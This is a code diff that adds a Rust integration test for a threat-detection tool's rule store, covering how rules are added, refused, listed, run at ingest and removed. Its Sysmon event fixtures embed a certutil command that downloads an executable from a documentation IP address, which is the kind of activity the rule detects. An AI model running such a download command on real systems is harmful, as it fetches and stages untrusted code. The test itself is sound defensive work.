@@ -1013,3 +1013,72 @@ fn hunt_without_files_runs_rules_over_stored_events_in_time_order_within_since_a
     let out = ward.run(&["hunt", rules.to_str().unwrap(), "--since", "yesterday-ish"]);
     assert_eq!(out.status.code(), Some(2));
 }
+
+#[test]
+fn rules_added_to_the_store_are_checked_listed_and_run_by_ingest_until_removed() {
+    let ward = Ward::new();
+    let good = ward.file("certutil.yml", RULE_CERTUTIL.as_bytes());
+    let broken = ward.file("broken.yml", b"title: [unclosed");
+    let sysmon = |minute: u32| {
+        format!(
+            r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws{minute}","TimeCreated":"2026-11-02T10:{minute:02}:00Z","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://203.0.113.5/a.exe a.exe"}}"#
+        )
+    };
+    let alerts_of_rule = |ward: &Ward| -> usize {
+        ward.ok(&["alerts", "--json"])
+            .lines()
+            .filter(|l| l.contains("11111111-2222-3333-4444-555555555555"))
+            .count()
+    };
+    // Before: the shipped pack has no such rule.
+    ward.ok(&[
+        "ingest",
+        ward.file("a.ndjson", sysmon(1).as_bytes())
+            .to_str()
+            .unwrap(),
+    ]);
+    assert_eq!(alerts_of_rule(&ward), 0);
+
+    // A file that does not load is refused whole, naming itself.
+    let out = ward.run(&[
+        "rules",
+        "add",
+        good.to_str().unwrap(),
+        broken.to_str().unwrap(),
+    ]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("broken.yml"));
+    assert!(
+        !ward
+            .ok(&["rules", "list"])
+            .contains("11111111-2222-3333-4444-555555555555")
+    );
+
+    let added = ward.ok(&["rules", "add", good.to_str().unwrap(), "--by", "soc-lead"]);
+    assert!(added.contains("certutil.yml: 1 rule(s) added"), "{added}");
+    let listed = ward.ok(&["rules", "list", "--json"]);
+    let line = listed
+        .lines()
+        .find(|l| l.contains("11111111-2222-3333-4444-555555555555"))
+        .expect("the added rule is listed");
+    assert!(line.contains("store:certutil.yml"), "{line}");
+
+    ward.ok(&[
+        "ingest",
+        ward.file("b.ndjson", sysmon(2).as_bytes())
+            .to_str()
+            .unwrap(),
+    ]);
+    assert_eq!(alerts_of_rule(&ward), 1, "the added rule ran");
+
+    ward.ok(&["rules", "remove", "certutil.yml"]);
+    ward.ok(&[
+        "ingest",
+        ward.file("c.ndjson", sysmon(3).as_bytes())
+            .to_str()
+            .unwrap(),
+    ]);
+    assert_eq!(alerts_of_rule(&ward), 1, "removed: no new alert");
+    let out = ward.run(&["rules", "remove", "certutil.yml"]);
+    assert_eq!(out.status.code(), Some(2));
+}
